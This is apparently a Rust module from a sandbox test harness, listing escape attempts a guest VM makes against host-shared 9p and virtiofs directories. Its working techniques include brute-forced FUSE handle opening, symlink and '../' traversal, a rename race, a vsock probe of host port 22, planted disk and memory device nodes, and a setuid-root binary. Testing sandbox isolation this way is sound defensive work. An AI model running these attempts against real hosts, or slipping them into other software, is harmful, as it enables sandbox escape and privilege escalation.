//! Escapes from directories that the host shares with a machine: QEMU and virtiofsd read and write them for it.

use std::os::unix::fs::chown;

use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use test_harness::prey::{BESIDE, IN_USR, LEFT, SHARED};

use super::*;

/// Returns the attempts against shared directories.
pub fn attempts() -> Vec<Attempt> {
    vec![
        // Escapes from shared directories.
        ("mount /usr once more, writable", All, |host| {
            again(
                "9p",
                &plan9_tags()?,
                &["trans=virtio,version=9p2000.L"],
                host,
            )
        }),
        ("find what lies beside its shares", All, |host| {
            let places = ["/etc", "/var", "/home", "/root", "/srv", "/mnt"];
            let found = places
                .iter()
                .find_map(|place| found(Path::new(place), host));
            found.ok_or_else(|| "not there".to_owned())
        }),
        ("mount what is shared with others", All, |host| {
            let own = (0..16).map(|number| format!("share{number}"));
            let guessed = ["t-esc2", "srv", "etc", "root", "/", "myfs", "virtiofs"];
            let tags: Vec<String> = guessed
                .into_iter()
                .map(ToOwned::to_owned)
                .chain(own)
                .collect();
            again("virtiofs", &tags, &[""], host)
        }),
        ("open the parents of its shares by handle", All, |host| {
            let places = ["/etc", "/var", "/home", "/root", "/srv"];
            let mut outcome = Err(String::new());
            for place in places {
                outcome = parents(place, host);
                if outcome.is_ok() {
                    break;
                }
            }
            outcome
        }),
        ("link to a file of the host's outside", All, |_| {
            let mut outcome = Err(String::new());
            for from in [format!("{IN_USR}/file"), format!("{SHARED}/file")] {
                let (from, to) = (text(&from), text(&left("link")));
                let (from, to) = (from.as_ptr() as usize, to.as_ptr() as usize);
                outcome = call(libc::SYS_linkat, [HERE, from, HERE, to, 0]);
                if outcome.is_ok() {
                    break;
                }
            }
            outcome.map(|_| "made one".to_owned())
        }),
        ("follow a link out of its tree", All, |host| {
            let up = "../".repeat(20);
            let targets = [
                host.secret.to_string_lossy().into_owned(),
                format!("../../{BESIDE}"),
                format!("{up}{}", host.secret.display()),
            ];
            let mut outcome = Err(String::new());
            for (number, target) in targets.into_iter().enumerate() {
                let link = PathBuf::from(left(&format!("to-{number}")));
                let _ = fs::remove_file(&link);
                symlink(target, &link).map_err(io)?;
                outcome = outcome.or(reads_secret(&link, host));
            }
            outcome
        }),
        ("climb out of a directory that moves", All, climbs),
        ("connect to the host by vsock", All, |_| {
            let socket = call(libc::SYS_socket, [40, 1, 0, 0, 0])? as usize;
            // `struct sockaddr_vm` of port 22 at VMADDR_CID_HOST
            let place = [40_u32, 22, 2, 0];
            call(libc::SYS_connect, [socket, address(&place), 16, 0, 0])
                .map(|_| "connected".to_owned())
        }),
        // Harmful files in its own tree.
        ("leave nodes of disks and memory", Tree, |_| {
            let nodes = [
                ("loop", SFlag::S_IFBLK, (7, 0)),
                ("disk", SFlag::S_IFBLK, (8, 0)),
                ("memory", SFlag::S_IFCHR, (1, 1)),
            ];
            for (name, kind, (major, minor)) in nodes {
                let path = PathBuf::from(left(name));
                let mode = Mode::from_bits_truncate(0o666);
                mknod(&path, kind, mode, makedev(major, minor)).map_err(said)?;
                let mode = std::os::unix::fs::PermissionsExt::from_mode(0o666);
                fs::set_permissions(&path, mode).map_err(io)?;
            }
            Ok("left three".to_owned())
        }),
        ("leave a program that makes root of all", Tree, |_| {
            let path = PathBuf::from(left("program"));
            fs::copy("/proc/self/exe", &path).map_err(io)?;
            chown(&path, Some(0), Some(0)).map_err(io)?;
            let mode = std::os::unix::fs::PermissionsExt::from_mode(0o6755);
            fs::set_permissions(&path, mode).map_err(io)?;
            Ok("left one".to_owned())
        }),
    ]
}

/// Returns a path in the sandbox's tree where every user inside may write.
fn left(name: &str) -> String {
    format!("/var/tmp/{LEFT}{name}-{}", nix::unistd::getuid())
}

/// Opens the inode with this number by a FUSE file handle: two words of the number, one of its generation.
pub fn handle(place: &str, kind: u32, size: u32, number: u32) -> Result<File, String> {
    use std::os::fd::FromRawFd;
    let handle = [size, kind, 0, number, 0];
    let at = File::open(place).map_err(io)?;
    let at = at.as_raw_fd() as usize;
    let opened = call(libc::SYS_open_by_handle_at, [at, address(&handle), 0, 0, 0])?;
    let number = i32::try_from(opened).map_err(|error| error.to_string())?;
    // SAFETY: the kernel has just opened this descriptor for us.
    Ok(unsafe { File::from_raw_fd(number) })
}

/// Opens inodes of a virtiofsd by number, after the guest's caches are dropped, and searches their parents.
fn parents(place: &str, host: &Host) -> Result<String, String> {
    let mut opened = 0;
    let mut stopped = Err("none opens".to_owned());
    for number in 0..512 {
        let _ = writes("/proc/sys/vm/drop_caches", "2");
        let file = match handle(place, 0x81, 12, number) {
            Ok(file) => file,
            Err(error) => {
                stopped = Err(error);
                continue;
            }
        };
        opened += 1;
        let mut at = PathBuf::from(format!("/proc/self/fd/{}", file.as_raw_fd()));
        for _ in 0..4 {
            if let Ok(read) = reads_secret(&at.join(BESIDE), host) {
                return Ok(read);
            }
            at.push("..");
        }
    }
    match opened {
        0 => stopped,
        _ => Err(format!("{opened} of its own")),
    }
}

/// Searches below `top` for a file from beside the shared directory.
fn found(top: &Path, host: &Host) -> Option<String> {
    let mut dirs = vec![top.to_owned()];
    while let Some(dir) = dirs.pop() {
        for entry in fs::read_dir(&dir).into_iter().flatten().flatten() {
            let is_dir = entry.file_type().is_ok_and(|kind| kind.is_dir());
            if entry.file_name() == BESIDE
                && let Ok(read) = reads_secret(&entry.path(), host)
            {
                return Some(read);
            }
            dirs.extend(is_dir.then(|| entry.path()));
        }
    }
    None
}

/// Mounts each tag with each of the options, and checks whether that shows hidden files or allows writing.
fn again(kind: &str, tags: &[String], options: &[&str], host: &Host) -> Result<String, String> {
    own_mounts()?;
    let (at, mut mounted, mut stopped) = (place()?, 0, String::new());
    for tag in tags {
        for options in options {
            let done = mount(
                Some(tag.as_str()),
                &at,
                Some(kind),
                MsFlags::empty(),
                Some(*options),
            );
            if let Err(error) = done {
                stopped = said(error);
                continue;
            }
            mounted += 1;
            if let Some(read) = found(&at, host) {
                return Ok(format!("{options}: {read}"));
            }
            // Writable virtiofs mounts are the sandbox's own tree.
            if kind == "9p" {
                match touches(&at.join("t-attack").to_string_lossy()) {
                    Ok(made) => return Ok(format!("{options}: {made}")),
                    Err(error) => stopped = format!("the host: {error}"),
                }
            }
            let _ = umount2(&at, MntFlags::MNT_DETACH);
        }
    }
    Err(format!("{mounted} mounted, {stopped}"))
}

fn plan9_tags() -> Result<Vec<String>, String> {
    let devices = fs::read_dir("/sys/bus/virtio/drivers/9pnet_virtio")
        .map_err(io)?
        .flatten();
    let tags =
        devices.filter_map(|device| fs::read_to_string(device.path().join("mount_tag")).ok());
    Ok(tags
        .map(|tag| tag.trim_end_matches(['\0', '\n']).to_owned())
        .collect())
}

/// Moves directories in one process while another one goes up from the innermost.
fn climbs(host: &Host) -> Result<String, String> {
    let top = PathBuf::from(left("climb"));
    fs::create_dir_all(top.join("a/b/c/d")).map_err(io)?;
    // SAFETY: the program has one thread.
    let child = match unsafe { fork() }.map_err(said)? {
        ForkResult::Child => loop {
            let _ = fs::rename(top.join("a/b/c"), top.join("c"));
            let _ = fs::rename(top.join("c"), top.join("a/b/c"));
        },
        ForkResult::Parent { child } => child,
    };
    let mut outcome = Err("went nowhere".to_owned());
    for round in 0..500 {
        let is_there = chdir(&top.join("a/b/c/d")).is_ok() || chdir(&top.join("c/d")).is_ok();
        if !is_there {
            continue;
        }
        for levels in 2..8 {
            let path = "../".repeat(levels) + BESIDE;
            match reads_secret(Path::new(&path), host) {
                Ok(read) => outcome = Ok(read),
                Err(error) if outcome.is_err() => outcome = Err(format!("{error}, {round} times")),
                Err(_) => {}
            }
        }
    }
    let _ = nix::sys::signal::kill(child, nix::sys::signal::Signal::SIGKILL);
    let _ = nix::sys::wait::waitpid(child, None);
    outcome
}
